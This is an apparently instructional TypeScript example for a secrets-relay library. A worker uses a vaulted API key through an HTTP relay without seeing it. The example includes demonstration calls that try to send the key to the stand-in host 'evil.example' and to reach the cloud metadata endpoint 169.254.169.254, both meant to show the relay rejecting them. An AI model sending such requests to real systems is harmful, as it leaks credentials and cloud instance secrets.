/**
 * A worker that must not have a customer's key calls an API with it, through a relay. The worker can
 * run in another process or container, and be written in any language: it sends plain HTTP.
 */

import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Caller, createCaller, createVaultService } from 'cofferkit'
import { createMemoryActivityLog } from 'cofferkit/activity'
import { bearerAuth } from 'cofferkit/http'
import { createMemoryStore } from 'cofferkit/memory'
import { createNodeListener } from 'cofferkit/node'
import { createToken, createTokenAuthenticator } from 'cofferkit/tokens'
import {
  createSecretFetch,
  createSecretRelay,
  vaultSecrets,
} from 'cofferkit/use'

const activity = createMemoryActivityLog()
const service = createVaultService({ store: createMemoryStore(), activity })
const owner = createCaller({ id: 'owner', vaults: '*' })
const { id: vaultId } = await service.createVault(owner, { name: 'Acme' })
await service.createItem(owner, {
  vaultId,
  item: {
    category: 'API_CREDENTIAL',
    title: 'Stripe',
    urls: [{ href: 'https://api.stripe.com' }],
    fields: [{ id: 'key', type: 'CONCEALED', value: 'sk_live_correct_horse' }],
  },
})

// The worker can use values, but not read them.
const used: readonly unknown[] = ['useField', 'listVaults', 'listItems']
const toWorker = ({ id }: Caller): Caller => ({
  id,
  can: (_, vault, operation) => vault === vaultId && used.includes(operation),
})
const { token, sha256 } = await createToken()
const authenticate = createTokenAuthenticator({
  tokens: [{ id: 'worker', sha256, vaults: {} }],
})

const relay = createSecretRelay(
  (caller, fetch) =>
    createSecretFetch(vaultSecrets(service, caller), { fetch }),
  {
    authenticate: bearerAuth(async (given) =>
      toWorker(await authenticate(given)),
    ),
    // A stand-in for the API. In your service: fetch: createPublicFetch()
    fetch: async (_, init) => {
      const key = new Headers(init.headers).get('authorization')
      console.log(
        'the API has received the key:',
        key === 'Bearer sk_live_correct_horse',
      )
      return Response.json({ object: 'list', echo: key })
    },
  },
)
const server = createServer(createNodeListener(relay)).listen(0, '127.0.0.1')
await once(server, 'listening')
const { port } = server.address() as AddressInfo

// From here on it is the code of the worker.
async function callApi(url: string, ownToken: string): Promise<void> {
  const response = await fetch(`http://127.0.0.1:${port}/relay/${url}`, {
    headers: {
      'x-cofferkit-authorization': `Bearer ${ownToken}`,
      authorization: 'Bearer {{ op://Acme/Stripe/key }}',
    },
  })
  console.log(
    response.status,
    response.headers.get('x-cofferkit-error') ?? (await response.text()),
  )
}

await callApi('https/api.stripe.com/v1/customers?limit=3', token)
await callApi('https/evil.example/', token)
await callApi('https/169.254.169.254/latest/meta-data', token)
await callApi('https/api.stripe.com/v1/customers', 'another token')

const entries = await service.listActivity(owner, { operation: 'useField' })
for (const { actor, result, use } of entries.entries.toReversed())
  console.log(actor.id, result, use?.method, use?.origin)
server.close()
